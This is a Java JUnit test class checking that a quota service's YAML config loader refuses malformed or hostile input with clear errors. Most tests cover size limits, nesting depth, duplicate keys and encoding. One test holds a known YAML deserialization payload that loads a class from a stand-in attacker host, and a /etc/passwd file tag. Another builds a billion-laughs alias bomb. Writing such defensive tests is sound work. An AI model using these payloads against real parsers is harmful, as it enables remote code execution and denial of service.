package dev.quota.core.config;

import static dev.quota.core.config.QuotaConfigLoaderTest.errorsOf;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hostile or malformed YAML is refused with a clear InvalidConfigException, never anything worse. */
class YamlSafetyTest {

    private static final int TWO_MB = 2 * 1024 * 1024;

    @Test
    void parse_emptyOrCommentOnly_isEmptyConfig() {
        assertThat(errorsOf("")).containsExactly("config is empty");
        assertThat(errorsOf("  \n# only a comment\n")).containsExactly("config is empty");
    }

    @Test
    void parse_duplicateKey_isAnErrorWithPathAndLines() {
        assertThat(errorsOf("""
                identity: {missingKey: reject}
                plans:
                  free:
                    limits: [{name: burst, capacity: 20, period: 1s}]
                  free:
                    limits: [{name: burst, capacity: 99, period: 1s}]
                """)).containsExactly("plans: duplicate key \"free\" (first at line 3, again at line 5)");
    }

    @Test
    void parse_syntaxError_reportsLineAndColumn() {
        assertThat(errorsOf("""
                plans:
                  free:
                    limits: [{name: burst
                      capacity: 20
                """)).containsExactly("invalid YAML at line 4, column 15: while parsing a flow mapping:"
                + " expected ',' or '}', but got :");
    }

    @Test
    void parse_javaTypeTag_isRefusedNotInstantiated() {
        assertThat(errorsOf("""
                plans:
                  free: !!java.io.File /etc/passwd
                """)).containsExactly("invalid YAML at line 2, column 9: tag \"!!java.io.File\" is not allowed;"
                + " only plain maps, lists and scalars");
        assertThat(errorsOf("plans: !!javax.script.ScriptEngineManager"
                + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]"))
                .singleElement().asString().contains("tag \"!!javax.script.ScriptEngineManager\" is not allowed");
    }

    @Test
    void parse_localTag_isRefusedWithItsPath() {
        assertThat(errorsOf("plans: {free: !custom {limits: []}}"))
                .containsExactly("plans.free: tag \"!custom\" is not allowed (line 1); only plain maps, lists and scalars");
    }

    @Test
    void parse_twoMegabyteString_isRefusedBeforeParsing() {
        String huge = "#".repeat(TWO_MB);

        assertThat(errorsOf(huge)).containsExactly(
                "the config is 2097152 characters; the limit is 1000000 (1 MB), so it was not parsed");
    }

    @Test
    void parse_twoMegabyteStream_readsNoMoreThanTheLimit() {
        var in = new CountingStream(TWO_MB);

        assertThatThrownBy(() -> QuotaConfigLoader.parse(in, "big.yaml"))
                .isInstanceOf(InvalidConfigException.class)
                .hasMessageContaining("the config is more than 1000000 bytes; the limit is 1000000 (1 MB)");
        assertThat(in.read).isEqualTo(QuotaConfigLoader.MAX_SIZE + 1);
    }

    @Test
    void load_twoMegabyteFile_isRefusedBySize(@TempDir Path dir) throws IOException {
        Path file = Files.write(dir.resolve("quota.yaml"), new byte[TWO_MB]);

        InvalidConfigException e = catchThrowableOfType(InvalidConfigException.class, () -> QuotaConfigLoader.load(file));
        assertThat(e.errors()).map(ConfigError::toString).containsExactly(
                "the config is 2097152 bytes; the limit is 1000000 (1 MB), so it was not read");
        assertThat(e.sourceName()).isEqualTo(file.toString());
    }

    @Test
    void parse_tenThousandNestedLists_failsCleanlyWithoutStackOverflow() {
        assertThat(errorsOf("[".repeat(10_000))).containsExactly("invalid YAML: the document is nested more than 50 levels deep");
        assertThat(errorsOf("{a: ".repeat(10_000))).containsExactly("invalid YAML: the document is nested more than 50 levels deep");
    }

    @Test
    void parse_billionLaughs_isRefused() {
        var yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int level = 1; level <= 9; level++) {
            String previous = "*a" + (level - 1);
            yaml.append('a').append(level).append(": &a").append(level).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(9, previous))).append("]\n");
        }

        assertThat(errorsOf(yaml.toString())).singleElement().asString()
                .endsWith("more than 50 aliases to maps or lists (refused to prevent alias bombs)");
    }

    @Test
    void parse_aliasIntoItself_isAnError() {
        assertThat(errorsOf("plans: &p {free: *p}"))
                .containsExactly("plans.free: an alias may not refer to a map or list that contains it");
    }

    @Test
    void parse_severalDocuments_isAnError() {
        assertThat(errorsOf("plans: {}\n---\nplans: {}\n")).containsExactly(
                "invalid YAML at line 2, column 1: more than one YAML document (---) in the file;"
                        + " the config is a single document");
    }

    @Test
    void parse_controlCharacter_reportsItsLine() {
        assertThat(errorsOf("plans:\n  free: \u0007\n")).containsExactly("invalid YAML at line 2: character U+0007 is not allowed");
    }

    @Test
    void parse_invalidUtf8Stream_isAnError() {
        var in = new ByteArrayInputStream(new byte[] {'p', 'l', 'a', 'n', 's', ':', ' ', (byte) 0xC3, (byte) 0x28});

        assertThatThrownBy(() -> QuotaConfigLoader.parse(in, "bad.yaml"))
                .isInstanceOf(InvalidConfigException.class)
                .hasMessage("invalid quota config bad.yaml (1 error):\n  the config is not valid UTF-8");
    }

    @Test
    void parse_utf8StreamWithByteOrderMark_loads() {
        byte[] yaml = "\uFEFFidentity: {missingKey: reject}\nplans: {free: {limits: [{name: b, capacity: 1, period: 1s}]}}"
                .getBytes(StandardCharsets.UTF_8);

        assertThat(QuotaConfigLoader.parse(new ByteArrayInputStream(yaml), "bom.yaml").plans()).containsOnlyKeys("free");
    }

    /** An endless-looking stream of spaces that counts how much of it was read. */
    private static final class CountingStream extends InputStream {
        private final int size;
        private int read;

        CountingStream(int size) {
            this.size = size;
        }

        @Override
        public int read() {
            if (read >= size) {
                return -1;
            }
            read++;
            return ' ';
        }

        /** Bulk reads as a file's stream serves them, so the count is what the loader asked for. */
        @Override
        public int read(byte[] buffer, int offset, int length) {
            Objects.checkFromIndexSize(offset, length, buffer.length);
            if (length == 0) {
                return 0;
            }
            if (read >= size) {
                return -1;
            }
            int n = Math.min(length, size - read);
            Arrays.fill(buffer, offset, offset + n, (byte) ' ');
            read += n;
            return n;
        }
    }
}
